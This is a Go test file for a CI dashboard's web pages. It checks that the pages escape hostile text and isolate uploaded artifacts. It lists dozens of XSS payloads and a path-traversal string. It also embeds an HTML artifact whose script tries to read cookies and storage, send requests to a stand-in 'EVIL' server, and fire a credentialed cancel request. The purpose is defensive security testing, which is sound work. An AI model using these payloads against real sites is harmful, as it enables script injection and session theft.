package pages_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/postflight-dev/postflight/api/v1alpha1"
	shared "github.com/postflight-dev/postflight/test/hostile"
	"github.com/postflight-dev/postflight/test/tier"
)

// hostile are texts that would run a script, load something or lead away, if a page did not escape them. EVIL is the
// address of a server that counts what reaches it.
var hostile = slices.Concat([]string{
	`<script>window.pwned=1</script>`, `"><script>window.pwned=1</script>`, `'><img src=x onerror=window.pwned=1>`,
	`<img src=EVIL/a onerror=alert(1)>`, `<svg onload=alert(1)>`, `<svg><script>alert(1)</script></svg>`,
	`</title><script>alert(1)</script>`, `</textarea><script>alert(1)</script>`, `--><script>alert(1)</script>`,
	`]]><script>alert(1)</script>`, `</pre></main></live-page><script>alert(1)</script>`,
	`" onmouseover="alert(1)" autofocus onfocus="alert(1)`,
	`' onclick='alert(1)`, "` onload=alert(1)", `javascript:alert(1)`, `JaVaScRiPt:alert(1)`, "java\tscript:alert(1)",
	`javascript://example.com/%0Aalert(1)`, `data:text/html,<script>alert(1)</script>`, `vbscript:msgbox(1)`, `//EVIL/a`, `\\EVIL\a`,
	`https://user:pass@evil.invalid/`, `http://[::1`, `<a href="javascript:alert(1)">x</a>`, `<iframe src="EVIL/a"></iframe>`,
	`<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>`, `<form action="EVIL/a"><button>x</button></form>`, `<base href="EVIL/">`,
	`<meta http-equiv="refresh" content="0;url=EVIL/a">`, `<link rel="stylesheet" href="EVIL/a.css">`, `<style>@import "EVIL/a"</style>`,
	`{{.Team}}{{template "layout"}}`, `${alert(1)}`, `#{alert(1)}`, `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
	`<details open ontoggle=alert(1)>`, `<video><source onerror=alert(1)></video>`, "\u202Ereversed\u202C \u0000 \ufeff", "\x1b]8;;javascript:alert(1)\x1b\\link\x1b]8;;\x1b\\ \x1b[31m<b>red",
	`<template shadowrootmode=open><script>alert(1)</script></template>`, `&lt;script&gt;alert(1)&lt;/script&gt;`, `<x-y id=main data-keep><live-page>`,
	`%3Cscript%3Ealert(1)%3C/script%3E`, `../../../../etc/passwd`, `?state=Failed&q="><script>alert(1)</script>`,
}, hostileInputs())

// hostileInputs are those of all places that show texts. An address cannot hold a long one.
func hostileInputs() (all []string) {
	for _, input := range shared.Short() {
		all = append(all, input.Text)
	}
	return all
}

// hostileRun has the text wherever a client, a test or a file of theirs can put one.
func hostileRun(i int, text string) *v1alpha1.Suite {
	return run{
		id: fmt.Sprintf("hostile-%d", i), trigger: "smoke", environment: "staging", branch: text, sha: text, ago: minute, took: 1,
		condition: v1alpha1.Failed(text),
		results: &v1alpha1.TestResults{Tests: 2, Failed: 2, ComparedWith: text, Failures: []v1alpha1.TestFailure{
			{Name: text, File: text, Line: 1, Message: text, History: v1alpha1.FailureNew}}},
		change: func(s *v1alpha1.Suite) {
			s.Spec.Deployment = v1alpha1.Deployment{Branch: text, SHA: text, Type: text, URL: text, CommitURL: text, Repository: text, PullRequestNumber: 1}
			s.Spec.Variables = v1alpha1.Variables{"TEXT": text, text: text}
			s.Annotations = map[string]string{v1alpha1.AnnotationCanceledBy: text, v1alpha1.AnnotationRerunBy: text}
			s.Status.PodProblem, s.Status.JobName, s.Status.SupersededBy = text, text, text
			s.Status.Inputs = []v1alpha1.SuiteInput{{Path: text, ETag: text}}
			s.Status.Artifacts = &v1alpha1.Artifacts{Count: 1, Prefix: text}
			s.Status.Report = &v1alpha1.SuiteReport{Repository: text, PullRequest: &v1alpha1.PullRequestReport{Number: 1, URL: text, Problem: text}}
		},
	}.suite()
}

func TestHostileText(t *testing.T) {
	tier.All(t, "a browser opens hundreds of pages; TestHostileTextIsEscaped needs none")
	if len(hostile) < 40 {
		t.Fatalf("only %d texts", len(hostile))
	}
	var reached atomic.Int32
	evil := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reached.Add(1) }))
	t.Cleanup(evil.Close)
	fake := &tests{}
	h := newWorld(t, samples(), quick, fake.with)
	h.artifacts.files = map[string][]byte{}
	b := h.open(t, phone, actKey)
	for i, text := range hostile {
		text = strings.ReplaceAll(text, "EVIL", evil.URL)
		fake.say(text)
		h.logs.write(text + "\n::group::" + text + "\n" + text + "\n::endgroup::\n")
		for _, kind := range []string{".txt", ".png", ".webm", ".html", ".zip"} {
			h.artifacts.files[text+kind] = []byte(text)
		}
		s := hostileRun(i, text)
		h.set(t, s)
		page := "/runs/shop/" + s.Name
		for _, path := range []string{page, page + "/variables", page + "/attempts", page + "/log/test?name=" + url.QueryEscape(text),
			showTest(text), "/tests/shop?q=" + url.QueryEscape(text), "/insights/shop?trigger=" + url.QueryEscape(text)} {
			b.visit(path)
			b.harmless(path, text)
		}
	}
	for _, path := range []string{"/runs/shop", "/runs/shop?q=" + "%22%3E%3Cscript%3Ealert(1)%3C/script%3E", "/board/shop", "/environments/shop", "/triggers/shop", "/triggers/shop/smoke",
		"/runs/shop/hostile-0/log", "/runs/shop/hostile-0/log?q=%3Cscript", "/runs/shop/hostile-0/artifacts", "/runs/shop/hostile-0/attempts",
		"/sign-in?next=%22%3E%3Cscript%3Ealert(1)%3C/script%3E", "/runs/shop/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
		"/triggers/shop/checkout?explain=1&branch=%3Cscript%3Ealert(1)%3C/script%3E&variables=%22%3E%3Cimg+src=x+onerror=alert(1)%3E"} {
		b.visit(path)
		b.harmless(path, "")
	}
	if n := reached.Load(); n > 0 {
		t.Errorf("%d requests left", n)
	}
}

// TestHostileContent: whatever an artifact is called and has in it, it runs nothing in the pages, and reaches nobody.
func TestHostileContent(t *testing.T) {
	tier.All(t, "a browser opens hundreds of pages; TestHostileTextIsEscaped needs none")
	var reached atomic.Int32
	evil := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reached.Add(1) }))
	t.Cleanup(evil.Close)
	h := newWorld(t, samples())
	b := h.open(t, desktop, actKey)
	for i, text := range hostile {
		text = strings.ReplaceAll(text, "EVIL", evil.URL)
		h.artifacts.files = map[string][]byte{}
		for _, kind := range []string{".html", ".svg", ".txt"} {
			h.artifacts.files[fmt.Sprint(i)+kind] = []byte(text)
		}
		b.visit(failedRun + "/artifacts")
		links := eval[[]string](b, `[...document.querySelectorAll(".files li > a:first-child")].map(a => a.getAttribute("href"))`)
		if len(links) != len(h.artifacts.files) {
			t.Fatalf("%d links to %d files", len(links), len(h.artifacts.files))
		}
		for _, link := range links {
			b.visit(link)
			framed := strings.HasSuffix(link, ".html") || strings.HasSuffix(link, ".svg")
			if origin := eval[string](b, `self.origin`); (origin == "null") == framed {
				t.Errorf("%s with %q has the origin %s", link, text, origin)
			}
		}
	}
	time.Sleep(300 * time.Millisecond)
	for _, bad := range b.complaints() {
		if strings.HasPrefix(bad, "dialog") {
			t.Error(bad)
		}
	}
	if diff := cmp.Diff([]string(nil), h.actions.all()); diff != "" || reached.Load() > 0 {
		t.Errorf("%d requests left; actions: %s", reached.Load(), diff)
	}
}

// harmless fails if the page ran, loaded or links to what it must not. A page that is not there is an error in the log.
func (b *tab) harmless(path, text string) {
	b.t.Helper()
	got := eval[[]string](b, `((addressed) => [
		...(window.pwned ? ["ran a script"] : []),
		...[...document.scripts].filter(s => !s.src.startsWith(location.origin + "/assets/")).map(s => "script " + s.outerHTML),
		...[...document.querySelectorAll("a[href], area[href]")].map(addressed).filter(a => !["http:",
			"https:"].includes(a.protocol)).map(a => "link " + a.href),
		...[...document.querySelectorAll("a[href]")].map(addressed).filter(a => a.host !== location.host &&
			!/noopener noreferrer/.test(a.rel)).map(a => "rel " + a.href),
		...[...document.querySelectorAll("iframe, object, embed, base, style, math, meta[http-equiv], main link")].map(e => "element " +
			e.outerHTML),
		...[...document.querySelectorAll("*")].flatMap(e => [...e.attributes].filter(a => /^on|^style$/.test(a.name)).map(a => e.outerHTML)),
	])((a) => a.href.baseVal === undefined ? a : new URL(a.href.baseVal, location.href))`) // links within drawings are of another kind
	for _, bad := range append(got, b.complaints()...) {
		if !strings.Contains(bad, "status of 404") {
			b.t.Errorf("%s with %q: %s", path, text, bad)
		}
	}
}

// TestHostileArtifact: a page among the artifacts has its scripts, and reaches nobody with them: neither other servers,
// nor the pages around it, nor the reader's session.
func TestHostileArtifact(t *testing.T) {
	tier.All(t, "a browser opens hundreds of pages; TestHostileTextIsEscaped needs none")
	var reached atomic.Int32
	evil := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { reached.Add(1) }))
	t.Cleanup(evil.Close)
	h := newWorld(t, samples())
	h.artifacts.files = map[string][]byte{"evil.html": []byte(strings.ReplaceAll(`<!doctype html><title>x</title><body><script>
		let open = 11;
		const worked = [];
		const say = (name) => (ok) => { if (ok &&
			name !== "beacon") worked.push(name); if (--open === 0) setTimeout(() => { fetch("said/" +
			worked.join("-")); location = "EVIL/location" }, 300) };
		const attempt = (name, f) => { try { Promise.resolve(f()).then(() => say(name)(true),
			() => say(name)(false)) } catch { say(name)(false) } };
		attempt("cookie", () => document.cookie);
		attempt("storage", () => localStorage.length);
		attempt("fetch", () => fetch("EVIL/fetch", {mode: "no-cors"}));
		attempt("image", () => new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = no; i.src = "EVIL/image" }));
		attempt("beacon", () => { if (!navigator.sendBeacon("EVIL/beacon")) throw 0 });
		attempt("pages", () => fetch("/runs/shop", {credentials: "include"}));
		attempt("cancel", () => fetch("/runs/shop/checkout-3f9c2k7q5x0a/cancel", {method: "POST", credentials: "include", mode: "no-cors"}));
		attempt("opener", () => opener.document.title);
		attempt("parent", () => parent.document.title);
		attempt("top", () => { top.location = "EVIL/top"; throw 0 });
		const f = document.createElement("form"); f.action = "EVIL/form"; document.body.append(f); attempt("form", () => { f.submit(); throw 0 });
		const l = document.createElement("link"); l.rel = "stylesheet"; l.href = "EVIL/style"; document.head.append(l);
		const i = document.createElement("iframe"); i.src = "EVIL/frame"; document.body.append(i);
	</script>`, "EVIL", evil.URL))}
	b := h.open(t, desktop, actKey)
	b.visit(failedRun + "/artifacts")
	b.visit(eval[string](b, `document.querySelector('a[href$="evil.html"]').getAttribute("href")`))
	if said := h.artifacts.told(t, "said"); said != "said/" {
		t.Errorf("a page among the artifacts: %q worked", said)
	}
	time.Sleep(300 * time.Millisecond)
	if diff := cmp.Diff([]string(nil), h.actions.all()); diff != "" || reached.Load() > 0 {
		t.Errorf("%d requests left; actions: %s", reached.Load(), diff)
	}
}
